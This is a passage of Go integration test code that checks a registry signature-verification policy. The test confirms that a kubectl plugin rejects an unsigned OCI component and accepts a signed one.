		"apiVersion: ocisrc.dev/v1alpha1\nkind: RegistryPolicy\nregistries:\n- prefix: %s/signed\n  verify:\n%s\n", stack.Open.Host, cosignVerify(f.key))}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = stack.Cluster.DeleteConfigMap(ctx, nsSys, "ocisrc-registry-policy") })
	local := writePolicy(t, fmt.Sprintf("registries:\n- prefix: %s/signed\n  tls:\n    ca: |\n%s\n", stack.Open.Host, pemBlock(t, stack.Open.CAFile, "      ")))
	putComponent(t, nsB, "unsigned", testenv.OCISource(f.unsigned.Ref, "", ""))
	putComponent(t, nsB, "signed", testenv.OCISource(f.legacy.Ref, "", ""))
	newHome(t)
	r := kubectl(t, "unsigned", "-n", nsB, "--registry-policy", local)
	wantCode(t, r, 2)
	wantStderr(t, r, "has no valid signature", `ConfigMap "deployment-system/ocisrc-registry-policy"`)
	wantCode(t, kubectl(t, "signed", "-n", nsB, "--registry-policy", local), 0)
}
